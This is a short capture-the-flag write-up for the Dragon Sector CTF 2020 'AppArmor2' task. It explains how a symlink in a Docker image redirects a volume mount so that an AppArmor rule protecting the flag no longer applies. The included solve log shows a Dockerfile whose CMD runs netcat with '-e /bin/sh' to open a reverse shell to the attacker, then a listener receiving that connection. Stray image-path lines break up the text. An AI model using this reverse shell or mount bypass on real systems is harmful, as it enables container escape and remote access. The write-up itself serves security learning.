### Writeup for the AppArmor2 task from Dragon Sector CTF 2020
This is a very short writeup to the "AppArmor2" challenge from the [Dragon Sector CTF 2020](https://ctftime.org/event/1082), solved by disconnect3d from justCatTheFish ctf team.

In this CTF challenge, there was a custom AppArmor policy applied to the run containers, such that it disallowed reads/writes to `/flag-*` paths.

We, as a user, could only provide a docker image that was built and run later on, and the flag (which we wanted to steal) was mounted as a volume into the run container with a `docker run -v /flag.txt:/flag-XXYY ...` invocation. The `XXYY` part was random.

### Solution

The solver is in `./solve.sh`. When running for first time, you need to:
* update the (referenced) docker image name in `build.sh` and the `<<YOURIP>>` part
* login to gitlab docker registry (`docker login`) and share your project with `dragonsectorclient` (that's how you shared the docker image with the challenge, and the challenge pulled and run it later on)

The *bug* here is that AppArmor denies read/write/etc to `/flag-*` but this limitation is enforced during container run time **but not during its build time AND that Docker will follow symlinks present in the image when mounting files with `docker run -v /hostpath:/containerpath ...`**.

So it turns out that when the `docker run -v something:somepath ...` is invoked, the `somepath` follows links and we can make a link from `/flag-XXYY` to `/D` in our image. In the end, the `docker run -v /flag.txt:/flag-XXYY ...` will mount `flag.txt` into `/D` which we can read.

[email protected]:~/dsctf/x/task/ds-apparmor-task/solution$ ./solve.shmkdir: cannot create directory ‘rootfs’: File exists
Sending build context to Docker daemon 33.56MB
Step 1/4 : FROM ubuntu
---> d70eaf7277ea
Step 2/4 : RUN apt update && apt install -y netcat-traditional
--->Using cache
---> 40ac85e97bbe
Step 3/4 : ADD rootfs /
---> Using cache
---> 17f203a1ee6a
Step 4/4 : CMD nc 4444 -e /bin/sh
---> Using cache
---> 422aece7a145
Successfully built 422aece7a145
Successfully tagged registry.gitlab.com/mytempaccount123/test:latest
The push refers to repository [registry.gitlab.com/mytempaccount123/test]
3c45abc528a8: Layer already exists
be0923227e77: Layer already exists
cc9d18e90faa: Layer already exists
0c2689e3f920: Layer already exists
47dde53750b4: Layer already exists
latest: digest: sha256:fda92fc789dbfde33799502d18e30e8f3b2d184d9942ea1e6c5ff75f7003ffd5 size: 1365
[+] Opening connection to apparmor2.hackable.software on port 1337: Done
Executing b'hashcash -mb26 udqynihh'
out b'1:26:201121:udqynihh::i6HwB+Gk4OttOKvq:000000005+DgO\n'
b'Image added to the queue\n'
Listening on [] (family 0, port 4444)
Connection from56178 received!

Original writeup (https://github.com/disconnect3d/writeups/tree/master/dsctf2020-apparmor2-task).